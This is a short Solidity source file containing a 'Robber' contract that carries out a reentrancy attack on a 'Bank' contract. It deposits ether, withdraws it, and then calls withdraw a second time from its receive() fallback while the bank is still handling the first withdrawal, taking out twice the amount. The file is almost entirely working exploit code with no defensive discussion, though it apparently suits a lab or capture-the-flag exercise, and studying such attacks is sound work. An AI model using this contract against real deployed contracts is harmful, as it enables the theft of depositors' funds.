// SPDX-License-Identifier: MIT
pragma solidity 0.8.21;

interface Bank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/// Withdraws once more while the bank is still busy with the first withdrawal.
contract Robber {
    Bank private immutable bank;
    uint256 private again;

    constructor(address bankAddress) {
        bank = Bank(bankAddress);
    }

    function rob() external payable {
        again = msg.value;
        bank.ethdeposit{value: msg.value}(address(this));
        bank.withdraw(msg.value);
    }

    receive() external payable {
        uint256 amount = again;
        if (amount > 0) {
            again = 0;
            bank.withdraw(amount);
        }
    }
}
